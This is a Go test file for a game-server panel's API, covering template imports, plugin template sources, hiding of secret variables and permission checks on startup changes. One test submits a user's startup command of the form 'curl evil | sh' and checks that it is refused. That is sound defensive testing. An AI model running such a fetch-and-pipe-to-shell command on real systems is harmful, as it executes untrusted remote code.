package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"catalyst.dev/core/internal/rbac"
	"catalyst.dev/core/internal/store"
	"catalyst.dev/sdk/plugin"
	"catalyst.dev/sdk/plugin/host"
	"github.com/hashicorp/go-hclog"
)

// imported is the answer of an import, decoded.
type imported struct {
	Template store.Template `json:"template"`
	Warnings []string       `json:"warnings"`
	Created  bool           `json:"created"`
}

func decodeData[T any](t *testing.T, r response) T {
	t.Helper()
	var v T
	if err := json.Unmarshal(r.Data, &v); err != nil {
		t.Fatalf("decode %s: %v", r.Body, err)
	}
	return v
}

// templateForm is a form with a file part and, when source is set, a
// source field.
func templateForm(t *testing.T, filename string, data []byte, source string) (string, map[string]string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	fw, err := w.CreateFormFile("file", filename)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(data)
	if source != "" {
		w.WriteField("source", source)
	}
	w.Close()
	return buf.String(), map[string]string{"Content-Type": w.FormDataContentType()}
}

const catalystTemplate = `{"name": "Imported game", "images": [{"label": "Java 21", "image": "ghcr.io/x/java:21"}, "ghcr.io/x/java:17"],
	"startup": "java -jar {{JAR}}", "startup_done": ["Done ("],
	"variables": [{"name": "Jar", "env_name": "JAR", "default": "server.jar", "user_viewable": true, "rules": "required|string"}],
	"config_files": [{"path": "server.properties", "parser": "properties", "replace": [{"match": "server-port", "value": "{{SERVER_PORT}}"}]}]}`

func TestImportCatalystTemplateFile(t *testing.T) {
	f := newFixture(t, "", nil)
	for _, tc := range []struct {
		name string
		body string
		hdr  map[string]string
	}{
		{"raw JSON body", catalystTemplate, nil},
		{"multipart form", "", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			body, hdr := tc.body, tc.hdr
			if body == "" {
				body, hdr = templateForm(t, "game.json", []byte(strings.Replace(catalystTemplate, "Imported game", "Uploaded game", 1)), "")
			}
			got := f.doWith(roleAdmin, "POST", "/api/admin/templates/import", body, hdr)
			if got.Status != http.StatusCreated {
				t.Fatalf("import: %d %s", got.Status, got.Body)
			}
			out := decodeData[imported](t, got)
			stored, err := f.store.TemplateByID(context.Background(), out.Template.ID)
			if err != nil {
				t.Fatal(err)
			}
			if !out.Created || out.Warnings == nil || len(out.Warnings) != 0 || len(stored.Images) != 2 ||
				stored.Images[1] != (store.TemplateImage{Label: "ghcr.io/x/java:17", Image: "ghcr.io/x/java:17"}) ||
				len(stored.ConfigFiles) != 1 || stored.Source != "" {
				t.Fatalf("imported %+v, stored %+v", out, stored)
			}
		})
	}

	for _, tc := range []struct {
		name, body, field string
		status            int
	}{
		{"unknown field", `{"name": "x", "colour": "red"}`, "colour", http.StatusUnprocessableEntity},
		{"invalid template", `{"name": "x", "images": ["img"], "startup": "run", "config_files": [{"path": "../x", "parser": "json", "replace": [{"match": "a", "value": "b"}]}]}`,
			"config_files[0].path", http.StatusUnprocessableEntity},
	} {
		got := f.doWith(roleAdmin, "POST", "/api/admin/templates/import", tc.body, nil)
		if got.Status != tc.status || got.Error == nil || got.Error.Field != tc.field {
			t.Errorf("%s: %d %s, want %d on %s", tc.name, got.Status, got.Body, tc.status, tc.field)
		}
	}
	if audit, _ := f.store.ListAudit(context.Background(), store.AuditFilter{Action: "admin.template.import"}); len(audit) != 3 {
		t.Errorf("%d import audit entries, want 3 (two imports, the invalid template refused)", len(audit))
	}
}

// testSource is a template source that converts files of its own small
// format ("name|image|startup") and offers a catalogue whose versions a
// test changes.
type testSource struct {
	mu      sync.Mutex
	version string
}

func (s *testSource) Info(context.Context) (plugin.Info, error) {
	return plugin.Info{Name: "test", Kind: plugin.KindTemplateSource, Version: "1"}, nil
}
func (s *testSource) ConfigSchema(context.Context) (plugin.Schema, error) {
	return plugin.Schema{}, nil
}
func (s *testSource) Configure(context.Context, plugin.Config) error { return nil }
func (s *testSource) setVersion(v string)                            { s.mu.Lock(); s.version = v; s.mu.Unlock() }
func (s *testSource) List(ctx context.Context) ([]plugin.TemplateSummary, error) {
	t, _ := s.Fetch(ctx, "games/pipe")
	return []plugin.TemplateSummary{{ID: t.ID, Name: t.Name, Version: t.Version}, {ID: "games/other", Name: "Other", Version: "1"}}, nil
}

func (s *testSource) Fetch(_ context.Context, id string) (plugin.Template, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if id != "games/pipe" {
		return plugin.Template{}, fmt.Errorf("template %q: %w", id, plugin.ErrNotFound)
	}
	return plugin.Template{ID: id, Name: "Pipe game " + s.version, Version: s.version, Startup: "./pipe",
		Images: []plugin.Image{{Label: "Stable", Ref: "example.com/pipe:" + s.version}}, Warnings: []string{"feature x dropped"}}, nil
}

func (s *testSource) Parse(_ context.Context, _ string, data []byte) (plugin.Template, error) {
	parts := strings.Split(strings.TrimSpace(string(data)), "|")
	if len(parts) != 3 {
		return plugin.Template{}, fmt.Errorf("not a pipe template: want name|image|startup: %w", plugin.ErrInvalidArgument)
	}
	return plugin.Template{ID: "ignored", Name: parts[0], Images: []plugin.Image{{Ref: parts[1]}}, Startup: parts[2],
		Warnings: []string{"pipe files have no variables"}}, nil
}

// sourceHost is a plugin host holding in-process template sources.
type sourceHost map[string]plugin.TemplateSource

func (h sourceHost) Status() []host.Status {
	var out []host.Status
	for name := range h {
		out = append(out, host.Status{Name: name, Kind: plugin.KindTemplateSource, Version: "1", Health: "healthy"})
	}
	return out
}

func (h sourceHost) TemplateSource(name string) (plugin.TemplateSource, error) {
	if s, ok := h[name]; ok {
		return s, nil
	}
	return nil, host.ErrUnknownPlugin
}

func TestImportFromTemplateSource(t *testing.T) {
	f := newFixture(t, "", nil)
	src := &testSource{version: "1"}
	f.api.Plugins = sourceHost{"pipes": src}

	// An uploaded file, converted by the source.
	body, hdr := templateForm(t, "game.pipe", []byte("Piped|example.com/piped:1|./run --fast"), "pipes")
	got := f.doWith(roleAdmin, "POST", "/api/admin/templates/import", body, hdr)
	if got.Status != http.StatusCreated {
		t.Fatalf("import through the source: %d %s", got.Status, got.Body)
	}
	out := decodeData[imported](t, got)
	if out.Template.Name != "Piped" || out.Template.Source != "pipes" || out.Template.SourceRef != "" ||
		out.Template.Images[0].Label != "example.com/piped:1" || len(out.Warnings) != 1 {
		t.Fatalf("imported %+v", out)
	}
	got = f.doWith(roleAdmin, "POST", "/api/admin/templates/import?source=pipes&name=x.pipe", "garbage", map[string]string{"Content-Type": "text/plain"})
	if got.Status != http.StatusUnprocessableEntity || !strings.Contains(got.Error.Message, "want name|image|startup") {
		t.Fatalf("a file the source cannot read: %d %s", got.Status, got.Body)
	}
	body, hdr = templateForm(t, "game.pipe", []byte("a|b|c"), "nope")
	if got := f.doWith(roleAdmin, "POST", "/api/admin/templates/import", body, hdr); got.Status != http.StatusNotFound ||
		!strings.Contains(got.Error.Message, "pipes") {
		t.Fatalf("an unknown source: %d %s", got.Status, got.Body)
	}

	// The catalogue: import, see it imported, import a newer version.
	type entry struct {
		Ref             string `json:"ref"`
		Imported        bool   `json:"imported"`
		TemplateID      string `json:"template_id"`
		ImportedVersion string `json:"imported_version"`
		UpdateAvailable bool   `json:"update_available"`
	}
	list := func() []entry {
		t.Helper()
		got := f.do(roleAdmin, "GET", "/api/admin/template-sources/pipes/templates", nil)
		if got.Status != http.StatusOK {
			t.Fatalf("list: %d %s", got.Status, got.Body)
		}
		return decodeData[[]entry](t, got)
	}
	if l := list(); len(l) != 2 || l[0].Imported || l[1].Imported {
		t.Fatalf("before any import: %+v", l)
	}
	importRef := func() imported {
		t.Helper()
		got := f.do(roleAdmin, "POST", "/api/admin/template-sources/pipes/import", map[string]string{"ref": "games/pipe"})
		if got.Status != http.StatusOK {
			t.Fatalf("import games/pipe: %d %s", got.Status, got.Body)
		}
		return decodeData[imported](t, got)
	}
	first := importRef()
	if !first.Created || first.Template.SourceRef != "games/pipe" || first.Template.SourceVersion != "1" || len(first.Warnings) != 1 {
		t.Fatalf("first import: %+v", first)
	}
	if l := list(); !l[0].Imported || l[0].TemplateID != first.Template.ID || l[0].ImportedVersion != "1" || l[0].UpdateAvailable {
		t.Fatalf("after the import: %+v", l)
	}
	src.setVersion("2")
	if l := list(); !l[0].UpdateAvailable {
		t.Fatalf("a newer version is not offered as an update: %+v", l)
	}
	second := importRef()
	if second.Created || second.Template.ID != first.Template.ID || second.Template.Name != "Pipe game 2" ||
		second.Template.Images[0].Image != "example.com/pipe:2" {
		t.Fatalf("second import: %+v (first %+v)", second, first)
	}
	if all, _ := f.store.ListTemplates(context.Background()); len(all) != 3 {
		t.Fatalf("%d templates, want the fixture's, the upload and one imported", len(all))
	}
	if got := f.do(roleAdmin, "POST", "/api/admin/template-sources/pipes/import", map[string]string{"ref": "games/none"}); got.Status != http.StatusNotFound {
		t.Fatalf("an unknown ref: %d %s", got.Status, got.Body)
	}

	// A new version whose name another template has: refused, naming it,
	// and the imported template stays as it was.
	taken := &store.Template{Name: "Pipe game 3", Images: []store.TemplateImage{{Label: "img", Image: "img"}}, Startup: "run"}
	if err := f.store.CreateTemplate(context.Background(), taken); err != nil {
		t.Fatal(err)
	}
	src.setVersion("3")
	got = f.do(roleAdmin, "POST", "/api/admin/template-sources/pipes/import", map[string]string{"ref": "games/pipe"})
	if got.Status != http.StatusConflict || got.Error.Field != "name" || !strings.Contains(got.Error.Message, `"Pipe game 3"`) {
		t.Fatalf("an import onto a taken name: %d %s", got.Status, got.Body)
	}
	if kept, err := f.store.TemplateByID(context.Background(), first.Template.ID); err != nil || kept.Name != "Pipe game 2" || kept.SourceVersion != "2" {
		t.Fatalf("the refused import changed the template: %+v, %v", kept, err)
	}

	got = f.do(roleAdmin, "GET", "/api/admin/template-sources", nil)
	type sourceEntry struct {
		Name      string `json:"name"`
		Templates *int   `json:"templates"`
	}
	if sources := decodeData[[]sourceEntry](t, got); len(sources) != 1 || sources[0].Name != "pipes" || sources[0].Templates == nil || *sources[0].Templates != 2 {
		t.Fatalf("sources: %s", got.Body)
	}
}

// The example template source, run as Catalyst runs plugins: its catalogue
// imports across the gRPC boundary, and it reads no files.
func TestImportFromTemplateSourcePlugin(t *testing.T) {
	bin := filepath.Join(t.TempDir(), "templates-static")
	if out, err := exec.Command("go", "build", "-o", bin, "catalyst.dev/examples/templates-static").CombinedOutput(); err != nil {
		t.Fatalf("build templates-static: %v\n%s", err, out)
	}
	h, err := host.New(host.WithLogger(hclog.NewNullLogger()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close() })
	if err := h.Load(context.Background(), []host.Spec{{Name: "static", Path: bin, ConfigJSON: []byte(`{"java_image": "ghcr.io/x/java:21"}`)}}); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, "", nil)
	f.api.Plugins = h

	got := f.do(roleAdmin, "POST", "/api/admin/template-sources/static/import", map[string]string{"ref": "minecraft-paper"})
	if got.Status != http.StatusOK {
		t.Fatalf("import minecraft-paper: %d %s", got.Status, got.Body)
	}
	out := decodeData[imported](t, got)
	if !out.Created || out.Template.Source != "static" || out.Template.Images[0] != (store.TemplateImage{Label: "Java 21", Image: "ghcr.io/x/java:21"}) ||
		len(out.Template.ConfigFiles) != 1 || out.Template.ConfigFiles[0].Replace[0].Value != "{{SERVER_PORT}}" {
		t.Fatalf("imported %+v", out)
	}
	got = f.do(roleAdmin, "POST", "/api/admin/template-sources/static/import", map[string]string{"ref": "nope"})
	if got.Status != http.StatusNotFound {
		t.Fatalf("an unknown ref: %d %s", got.Status, got.Body)
	}
	body, hdr := templateForm(t, "egg.json", []byte(`{}`), "static")
	got = f.doWith(roleAdmin, "POST", "/api/admin/templates/import", body, hdr)
	if got.Status != http.StatusUnprocessableEntity || !strings.Contains(got.Error.Message, "cannot read files") {
		t.Fatalf("a file through a source that reads none: %d %s", got.Status, got.Body)
	}
}

// startupFixture is the fixture with a template of variables: one hidden,
// one editable with rules, one viewable but locked.
func startupFixture(t *testing.T, withheld rbac.Permission) *fixture {
	t.Helper()
	f := newFixture(t, withheld, nil)
	ctx := context.Background()
	f.tmpl.Images = []store.TemplateImage{{Label: "Stable", Image: "img"}, {Label: "Beta", Image: "img:beta"}}
	f.tmpl.Startup = "run --players {{PLAYERS}} --token {{TOKEN}} --map {{MAP}}"
	f.tmpl.Variables = []store.TemplateVariable{
		{Name: "Players", EnvName: "PLAYERS", Default: "10", UserViewable: true, UserEditable: true, Rules: "required|integer|max:100"},
		{Name: "Token", EnvName: "TOKEN", Default: "s3cret"},
		{Name: "Map", EnvName: "MAP", Default: "island", UserViewable: true},
	}
	if err := f.store.UpdateTemplate(ctx, f.tmpl, "images", "startup", "variables"); err != nil {
		t.Fatal(err)
	}
	f.server.Startup = f.tmpl.Startup
	if err := f.store.UpdateServer(ctx, f.server, "startup"); err != nil {
		t.Fatal(err)
	}
	return f
}

type startupAnswer struct {
	Images []struct {
		Image    string `json:"image"`
		Selected bool   `json:"selected"`
	} `json:"images"`
	Image           string `json:"image"`
	StartupRendered string `json:"startup_rendered"`
	Variables       []struct {
		EnvName  string `json:"env_name"`
		Value    string `json:"value"`
		Editable bool   `json:"editable"`
	} `json:"variables"`
}

func TestStartupShowsWhatTheCallerMaySee(t *testing.T) {
	f := startupFixture(t, "")
	got := f.do(roleOwner, "GET", "/api/servers/"+f.server.ID+"/startup", nil)
	if got.Status != http.StatusOK {
		t.Fatalf("%d %s", got.Status, got.Body)
	}
	owner := decodeData[startupAnswer](t, got)
	if len(owner.Variables) != 2 || owner.Variables[0].EnvName != "PLAYERS" || !owner.Variables[0].Editable || owner.Variables[1].Editable ||
		owner.StartupRendered != "run --players 10 --token [hidden] --map island" || !owner.Images[0].Selected || owner.Images[1].Selected {
		t.Fatalf("the owner sees %+v", owner)
	}
	if strings.Contains(string(got.Body), "s3cret") {
		t.Fatalf("a hidden variable's value reached the owner: %s", got.Body)
	}
	admin := decodeData[startupAnswer](t, f.do(roleAdmin, "GET", "/api/servers/"+f.server.ID+"/startup", nil))
	if len(admin.Variables) != 3 || admin.StartupRendered != "run --players 10 --token s3cret --map island" {
		t.Fatalf("an administrator sees %+v", admin)
	}
}

// The server views hold the values of the variables users may see: an
// administrator's value for a hidden one reaches administrators only.
func TestServerViewsHideWhatUsersMayNotSee(t *testing.T) {
	f := startupFixture(t, "")
	f.server.Environment = map[string]string{"PLAYERS": "20", "TOKEN": "rcon-Xy7", "MAP": "desert"}
	if err := f.store.UpdateServer(context.Background(), f.server, "environment"); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/api/servers/" + f.server.ID, "/api/servers"} {
		for _, r := range []role{roleOwner, roleSubWith} {
			got := f.do(r, "GET", path, nil)
			if got.Status != http.StatusOK || strings.Contains(string(got.Body), "rcon-Xy7") ||
				!strings.Contains(string(got.Body), `"PLAYERS":"20"`) || !strings.Contains(string(got.Body), `"MAP":"desert"`) {
				t.Fatalf("GET %s as %s: %d %s", path, r, got.Status, got.Body)
			}
		}
		if got := f.do(roleAdmin, "GET", path, nil); !strings.Contains(string(got.Body), `"TOKEN":"rcon-Xy7"`) {
			t.Fatalf("GET %s as an administrator: %s", path, got.Body)
		}
	}
	got := f.do(roleOwner, "PATCH", "/api/servers/"+f.server.ID, map[string]any{"environment": map[string]string{"PLAYERS": "30"}})
	if got.Status != http.StatusOK || strings.Contains(string(got.Body), "rcon-Xy7") {
		t.Fatalf("PATCH as the owner: %d %s", got.Status, got.Body)
	}
}

func TestStartupChangesNeedTheirPermissions(t *testing.T) {
	f := startupFixture(t, rbac.StartupImage)
	path := "/api/servers/" + f.server.ID + "/startup"
	reload := func() *store.Server {
		srv, err := f.store.ServerByID(context.Background(), f.server.ID)
		if err != nil {
			t.Fatal(err)
		}
		return srv
	}

	// Without startup.image, the variables may change but not the image.
	got := f.do(roleSubWithout, "PATCH", path, map[string]any{"image": "img:beta"})
	if got.Status != http.StatusForbidden || !strings.Contains(got.Error.Message, "startup.image") {
		t.Fatalf("image change without startup.image: %d %s", got.Status, got.Body)
	}
	got = f.do(roleSubWithout, "PATCH", path, map[string]any{"environment": map[string]string{"PLAYERS": "20"}})
	if got.Status != http.StatusOK || reload().Environment["PLAYERS"] != "20" {
		t.Fatalf("variable change with startup.update: %d %s", got.Status, got.Body)
	}

	got = f.do(roleSubWith, "PATCH", path, map[string]any{"image": "img:beta"})
	if got.Status != http.StatusOK || reload().Image != "img:beta" || !decodeData[startupAnswer](t, got).Images[1].Selected {
		t.Fatalf("image change with startup.image: %d %s", got.Status, got.Body)
	}
	got = f.do(roleOwner, "PATCH", path, map[string]any{"image": "evil:latest"})
	if got.Status != http.StatusUnprocessableEntity || got.Error.Field != "image" || reload().Image != "img:beta" {
		t.Fatalf("an image the template does not list: %d %s", got.Status, got.Body)
	}
	got = f.do(roleOwner, "PATCH", path, map[string]any{"environment": map[string]string{"MAP": "desert"}})
	if got.Status != http.StatusUnprocessableEntity || got.Error.Field != "environment.MAP" {
		t.Fatalf("a locked variable: %d %s", got.Status, got.Body)
	}

	// The command line is the administrators'.
	got = f.do(roleOwner, "PATCH", path, map[string]any{"startup": "sh -c 'curl evil | sh'"})
	if got.Status != http.StatusForbidden || !strings.Contains(got.Error.Message, "only administrators") {
		t.Fatalf("a user changing the command line: %d %s", got.Status, got.Body)
	}
	got = f.do(roleAdmin, "PATCH", path, map[string]any{"startup": "run --fast", "image": "registry.example.com/own:1"})
	if got.Status != http.StatusOK || reload().Startup != "run --fast" || reload().Image != "registry.example.com/own:1" {
		t.Fatalf("an administrator's change: %d %s", got.Status, got.Body)
	}
	audit, _ := f.store.ListAudit(context.Background(), store.AuditFilter{Action: "server.startup.update"})
	if len(audit) != 5 {
		t.Fatalf("%d startup audit entries, want 5 (every change that passed the permission checks)", len(audit))
	}
}

// Needs the rules of catalyst.dev/sdk/varrules.
func TestVariableRulesRefuseValuesAndChangeNothing(t *testing.T) {
	f := startupFixture(t, "")
	for _, tc := range []struct{ method, path string }{
		{"PATCH", "/api/servers/" + f.server.ID},
		{"PATCH", "/api/servers/" + f.server.ID + "/startup"},
	} {
		got := f.do(roleOwner, tc.method, tc.path, map[string]any{"environment": map[string]string{"PLAYERS": "500"}})
		if got.Status != http.StatusUnprocessableEntity || got.Error.Field != "environment.PLAYERS" {
			t.Errorf("%s %s with a value over the maximum: %d %s", tc.method, tc.path, got.Status, got.Body)
		}
	}
	srv, err := f.store.ServerByID(context.Background(), f.server.ID)
	if err != nil {
		t.Fatal(err)
	}
	if _, set := srv.Environment["PLAYERS"]; set {
		t.Fatalf("a refused value was stored: %v", srv.Environment)
	}
}
